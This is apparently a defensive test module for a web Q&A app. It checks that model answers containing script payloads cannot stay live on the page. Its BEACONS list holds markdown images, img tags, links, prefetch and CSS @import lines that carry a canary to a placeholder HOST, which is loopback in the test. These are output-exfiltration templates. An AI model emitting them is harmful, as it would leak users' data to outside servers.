"""What a model may do to the page that shows its answer."""

from __future__ import annotations

import re
import shutil
import threading
from contextlib import contextmanager
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from tests.drills import drill
from tests.drills.providers import PRICES
from tests.support.payloads import ALLOWED, SCRIPT

BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")


class AnswerText(HTMLParser):
    """The elements inside every answer of a page."""

    def __init__(self, html):
        super().__init__()
        self.found, self.depth = [], 0
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        if self.depth:
            self.found.append((tag, dict(attrs)))
        if tag == "div" and (self.depth or "data-answer-text" in dict(attrs)):
            self.depth += 1

    def handle_endtag(self, tag):
        if tag == "div" and self.depth:
            self.depth -= 1


def live_parts(html):
    """Whatever in the answers of a page could act, load or lead astray."""
    return [f"{tag} {attributes}" for tag, attributes in AnswerText(html).found if is_live(tag, attributes)]


def is_live(tag, attributes):
    acting = {"hx-get": r"/citations/\d+/", "hx-target": "#panel", "hx-swap": "innerHTML"}
    for name, value in attributes.items():
        if name.startswith(("on", "data-", "sse-", "style", "src", "hx-")) and not re.fullmatch(
            acting.get(name, "(?!)"), value or ""
        ):
            return True
        if name == "href" and not re.match(r"https?://|mailto:|/citations/\d+/$", value or ""):
            return True
    return tag not in ALLOWED


def prepared(stage):
    alice = stage.person()
    alice.add_ready(PRICES, "prices.txt")
    return alice


@drill("L01", quick=True)
def script_in_answers(stage, report):
    """a model that answers with scripts, handlers, forms and frames, each payload a question"""
    payloads = SCRIPT[::9] if stage.is_quick else SCRIPT
    alice, live, conversations, unescaped = prepared(stage), [], set(), 0
    for number, payload in enumerate(payloads):
        if number % 20 == 0:
            alice.forget_rate_limit()
        stage.fake.answer = f"Membership {payload} costs [1].\n\n{payload}"
        followed, question = alice.asked(f"What does membership number {number} cost?")
        assert followed.final, f"no answer to {payload}"
        live += live_parts(followed.final)
        unescaped += "<" in followed.streamed
        conversations.add(stage.value("select conversation_id from qa_question where id = %s", question))
    pages = [alice.get(f"/c/{pk}/").text for pk in sorted(conversations)]
    report.note(f"{len(payloads)} payloads")
    report.exactly(
        "pages with an answer text", sum("data-answer-text" in page for page in pages), len(payloads)
    )
    report.exactly("live parts in streams", live, [])
    report.exactly("live parts in pages", [part for page in pages for part in live_parts(page)], [])
    report.exactly("streamed pieces with markup", unescaped, 0)


@contextmanager
def beacon():
    """A server that notes who calls; gives its address and its list."""
    calls: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            calls.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", calls
    finally:
        server.shutdown()
        server.server_close()


@drill("L03")
def pictures_as_beacons(stage, report):
    """answers with pictures, references and links that carry a canary to a server on loopback"""
    alice, pages = prepared(stage), {}
    with beacon() as (address, calls):
        for number, text in enumerate(BEACONS):
            stage.fake.answer = text.replace("HOST", address)
            followed, question = alice.asked(f"What does membership {number} cost?")
            conversation = stage.value("select conversation_id from qa_question where id = %s", question)
            pages[f"/c/{conversation}/"] = followed.final + alice.get(f"/c/{conversation}/").text
        tags = [(tag, attributes) for html in pages.values() for tag, attributes in AnswerText(html).found]
        report.exactly(
            "pictures", sum(tag in ("img", "picture", "video", "source", "svg") for tag, _ in tags), 0
        )
        links = [
            attributes
            for tag, attributes in tags
            if tag == "a" and attributes.get("href", "").startswith("http")
        ]
        wanted = {"nofollow", "noopener", "noreferrer"}
        report.exactly(
            "foreign links that pass something on",
            sum(not wanted <= set((a.get("rel") or "").split()) for a in links),
            0,
        )
        looked = open_in_browser(stage, alice, pages) if not stage.is_quick else "HTML only"
        report.exactly(f"calls at the beacon ({looked})", len(calls), 0)


BEACONS = [
    "See ![x](HOST/pixel.png?q=canary) [1].",
    "See ![x][r] [1].\n\n[r]: HOST/reference.png?q=canary",
    "See <img src=HOST/raw.png?q=canary> [1].",
    "See [a page](HOST/link?q=canary) [1].",
    "<link rel=prefetch href=HOST/prefetch?q=canary> [1] <style>@import 'HOST/style?q=canary';</style>",
]


def open_in_browser(stage, person, paths):
    """Opens the pages in Chromium where there is one; says how it was looked at."""
    program = next(filter(None, map(shutil.which, BROWSERS)), None)
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        program = None
    if program is None:
        return "HTML only, no Chromium here"
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=program, args=["--no-sandbox", "--disable-gpu"])
        context = chromium.new_context()
        cookies = [{"name": n, "value": v, "url": stage.url} for n, v in person.cookies.items()]
        context.add_cookies(cookies)
        for path in paths:
            page = context.new_page()
            page.goto(f"{stage.url}{path}")
            page.wait_for_timeout(500)
        chromium.close()
    return "in Chromium"
